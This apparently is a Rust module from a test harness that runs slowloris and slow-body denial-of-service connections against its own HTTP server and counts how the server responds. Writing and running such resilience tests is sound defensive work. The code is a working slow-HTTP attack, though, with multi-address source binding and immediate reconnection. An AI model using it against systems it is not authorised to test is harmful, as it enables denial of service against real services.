//! The attack connections: what they send, how they trickle, and what
//! the server did with them ([`Tally`]).

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

use crate::Attack;

/// What happened to the attack connections.
#[derive(Default)]
pub struct Tally {
    pub open: AtomicU64,
    pub peak_open: AtomicU64,
    pub opened: AtomicU64,
    pub connect_errors: AtomicU64,
    pub closed_silently: AtomicU64,
    pub answered_503: AtomicU64,
    pub answered_408: AtomicU64,
    pub answered_other: AtomicU64,
    /// How long the server held each connection it closed, in ms.
    pub held_ms: Mutex<Vec<u64>>,
}

/// The bytes an attack connection starts with, and the byte it trickles.
pub struct AttackBytes {
    first: Vec<u8>,
    trickle: &'static [u8],
}

pub fn attack_bytes(attack: &Attack, auth: &str, addr: SocketAddr) -> AttackBytes {
    match attack {
        Attack::Slowloris => AttackBytes {
            first: format!("GET /v1/tasks/slow HTTP/1.1\r\nhost: {addr}\r\nx-a: ").into_bytes(),
            trickle: b"a",
        },
        Attack::SlowBody {
            path,
            length,
            prefix,
        } => {
            let mut first = format!(
                "POST {path} HTTP/1.1\r\nhost: {addr}\r\nauthorization: {auth}\r\ncontent-type: application/json\r\ncontent-length: {length}\r\n\r\n"
            )
            .into_bytes();
            first.resize(first.len() + prefix.min(length), b' ');
            AttackBytes {
                first,
                trickle: b" ",
            }
        }
    }
}

/// One attack connection: connect, send, trickle until the server closes
/// it (or the attack ends); counts what it was answered.
pub async fn attack_once(
    addr: SocketAddr,
    source: Ipv4Addr,
    request: &AttackBytes,
    trickle: Duration,
    until: Instant,
    tally: &Tally,
) {
    let mut stream = match connect_from(source, addr).await {
        Ok(s) => s,
        Err(_) => {
            tally.connect_errors.fetch_add(1, Ordering::Relaxed);
            tokio::time::sleep(Duration::from_millis(100)).await;
            return;
        }
    };
    let opened = Instant::now();
    tally.opened.fetch_add(1, Ordering::Relaxed);
    let open = tally.open.fetch_add(1, Ordering::Relaxed) + 1;
    tally.peak_open.fetch_max(open, Ordering::Relaxed);
    let mut answer = [0u8; 12];
    let mut got = 0;
    let mut wrote = stream.write_all(&request.first).await.is_ok();
    let closed = loop {
        let now = Instant::now();
        if now >= until {
            break false;
        }
        let wait = trickle.min(until - now);
        tokio::select! {
            read = stream.read(answer.get_mut(got..).unwrap_or_default()), if got < answer.len() => match read {
                Ok(0) | Err(_) => break true,
                Ok(n) => got += n,
            },
            _ = tokio::time::sleep(wait), if wrote => {
                wrote = stream.write_all(request.trickle).await.is_ok();
            }
        }
        if got == answer.len() || !wrote {
            break true;
        }
    };
    tally.open.fetch_sub(1, Ordering::Relaxed);
    if !closed {
        return;
    }
    if let Ok(mut held) = tally.held_ms.lock() {
        held.push(opened.elapsed().as_millis() as u64);
    }
    let counter = match answer.get(..got).unwrap_or_default() {
        [] => &tally.closed_silently,
        a if a.starts_with(b"HTTP/1.1 503") => &tally.answered_503,
        a if a.starts_with(b"HTTP/1.1 408") => &tally.answered_408,
        _ => &tally.answered_other,
    };
    counter.fetch_add(1, Ordering::Relaxed);
    // An attacker comes straight back, but not in a hot loop.
    tokio::time::sleep(Duration::from_millis(10)).await;
}

async fn connect_from(source: Ipv4Addr, addr: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(IpAddr::V4(source), 0))?;
    tokio::time::timeout(Duration::from_secs(5), socket.connect(addr))
        .await
        .map_err(|_| std::io::Error::other("connect timed out"))?
}
